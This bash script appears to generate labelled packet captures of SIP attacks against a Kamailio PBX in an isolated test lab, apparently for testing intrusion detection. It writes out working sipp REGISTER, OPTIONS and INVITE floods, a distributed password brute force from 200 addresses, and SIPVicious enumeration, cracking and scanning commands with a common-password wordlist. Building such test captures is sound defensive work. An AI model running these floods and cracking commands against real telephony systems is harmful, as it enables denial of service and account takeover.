#!/usr/bin/env bash
# Attacks at scale and real-tool variants (issue 6), one capture each: `attacks.sh NAME...` records
# pcaps/lab-NAME.pcap for each NAME given (all of them without arguments), in one lab session (the lab lock is
# taken once). Variants:
#   bruteforce-distributed  200 attacker addresses 10.79.0.1-200 (on the attacker, routed by the PBX), each running
#                           one sipp that guesses 1001's password 1 + (N mod 3) times (401, then credentials with a
#                           wrong password, 403), one address started every 0.5 s: 399 failures in ~100 s
#   flood-distributed       25 addresses 10.79.0.1-25, each a sipp REGISTER flood (no credentials, 401 each) at
#                           10/s, 70 REGISTERs, one socket per call (-t un: every REGISTER from a new port): 250/s
#                           at the PBX, 10/s from each address
#   options-flood           sipp OPTIONS flood from 10.77.0.66 at 100/s, 800 requests (200 OK each)
#   invite-flood-slow       sipp INVITE flood at 60/s, 600 INVITEs (100 + 404 + ACK each): above 50/s
#   invite-flood-below      sipp INVITE flood at 30/s, 300 INVITEs: below 50/s, must stay silent
#   svwar-options           svwar -m OPTIONS 990-1010 (--force): kamailio answers 404 to every OPTIONS with a user
#                           part (nobody registered), so 1001 and 1002 look like the others
#   svwar-invite            svwar -m INVITE 990-1010 (--force): 100 + 404 for every extension, the same
#   svcrack-fail            svcrack on 1001 with 12 words, none right: 12 x 403
#   svcrack-range           svcrack on 1001 with -r 1-40 -z 4 (0001..0040): 40 x 403 (svcrack 0.3.3's -n, reuse
#                           the first nonce, fails with KeyError 'algorithm' on kamailio's challenge)
#   svmap-invite            svmap -m INVITE of 10.77.0.1 and 10.78.0.0/24 (behind cg-gw, blackholed)
#   svmap-ports             svmap -p 5060-5070 with compact headers (-c, no User-Agent) and extension 1001 in the URI
#                           (-e) of 10.78.0.16 (blackholed) and 10.77.0.1: 22 probes in 0.44 s, the capture ends
#                           0.2 s later (svmap 0.3.3 has no --fingerprint; --randomize probed one random host of a
#                           range, so the hosts are named instead)
set -euo pipefail
# shellcheck source=../lab.sh
. "$(dirname "$0")/../lab.sh"
trap lab_down EXIT

ALL=(bruteforce-distributed flood-distributed options-flood invite-flood-slow invite-flood-below svwar-options
	svwar-invite svcrack-fail svcrack-range svmap-invite svmap-ports)

# att_addrs N : give the attacker 10.79.0.1-N (/32 on its LAN interface; ARP keeps using 10.77.0.66) and the PBX a
# route to 10.79.0.0/24 through it.
att_addrs() {
	local i
	in_ns att sysctl -qw net.ipv4.conf.all.arp_announce=2 net.ipv4.conf.cgeth0.arp_announce=2
	for i in $(seq "$1"); do
		ip -n cg-att addr add "10.79.0.$i/32" dev cgeth0
	done
	ip -n cg-pbx route add 10.79.0.0/24 via 10.77.0.66
}

sv() {
	local tool=$1
	shift
	in_ns att env HOME="$LAB_TMP" "$tool" "$@" >"$LAB_TMP/$tool.out" 2>&1 || true
	cat "$LAB_TMP/$tool.out" >&2
}

record() {
	local name=$1 i pids=() n
	case $name in
	svmap-*) lab_up gw ;;
	*) lab_up ;;
	esac
	lab_kamailio
	case $name in
	bruteforce-distributed | flood-distributed) att_addrs 200 ;;
	esac
	lab_record_start "$LAB_TMP/cap.pcap"
	case $name in
	bruteforce-distributed)
		for i in $(seq 200); do
			n=$((1 + i % 3))
			lab_bg att sipp -nostdin -sf "$LAB_DIR/sipp/register-wrong.xml" 10.77.0.1:5060 -i "10.79.0.$i" -p 5060 \
				-s 1001 -au 1001 -ap "wrong$i" -r 1 -m "$n" -l 1 -timeout 20s
			pids+=("$LAB_LAST_PID")
			sleep 0.5
		done
		for i in "${pids[@]}"; do lab_wait "$i" 30; done
		;;
	flood-distributed)
		for i in $(seq 25); do
			lab_bg att sipp -nostdin -sf "$LAB_DIR/sipp/register-flood.xml" 10.77.0.1:5060 -t un -i "10.79.0.$i" \
				-s 1001 -r 10 -m 70 -max_socket 200 -timeout 30s
			pids+=("$LAB_LAST_PID")
		done
		for i in "${pids[@]}"; do lab_wait "$i" 40; done
		;;
	options-flood)
		lab_sipp att -sf "$LAB_DIR/sipp/options-flood.xml" 10.77.0.1:5060 -i 10.77.0.66 -p 5072 \
			-r 100 -m 800 -l 800 -timeout 30s || true
		;;
	invite-flood-slow)
		lab_sipp att -sf "$LAB_DIR/sipp/invite-flood.xml" 10.77.0.1:5060 -i 10.77.0.66 -p 5070 -s 1009 \
			-r 60 -m 600 -l 600 -timeout 30s || true
		;;
	invite-flood-below)
		lab_sipp att -sf "$LAB_DIR/sipp/invite-flood.xml" 10.77.0.1:5060 -i 10.77.0.66 -p 5070 -s 1009 \
			-r 30 -m 300 -l 300 -timeout 30s || true
		;;
	svwar-options) sv svwar -p 5060 -P 5062 -e 990-1010 -m OPTIONS --force 10.77.0.1 ;;
	svwar-invite) sv svwar -p 5060 -P 5062 -e 990-1010 -m INVITE --force 10.77.0.1 ;;
	svcrack-fail)
		printf '%s\n' 123456 password 1001 admin 1234 secret voip 0000 letmein qwerty 111111 iloveyou >"$LAB_TMP/words.txt"
		sv svcrack -p 5060 -P 5063 -u 1001 -d "$LAB_TMP/words.txt" 10.77.0.1
		;;
	svcrack-range) sv svcrack -p 5060 -P 5063 -u 1001 -r 1-40 -z 4 10.77.0.1 ;;
	svmap-invite) sv svmap -p 5060 -P 5061 -t 0.02 -m INVITE 10.77.0.1 10.78.0.0/24 ;;
	svmap-ports) sv svmap -P 5061 -t 0.02 -p 5060-5070 -c -e 1001 10.78.0.16 10.77.0.1 ;;
	*)
		lab_log "unknown variant $name (known: ${ALL[*]})"
		exit 2
		;;
	esac
	lab_record_stop
	lab_save "$LAB_TMP/cap.pcap" "$name"
}

[[ $# -gt 0 ]] || set -- "${ALL[@]}"
for v in "$@"; do
	record "$v"
done
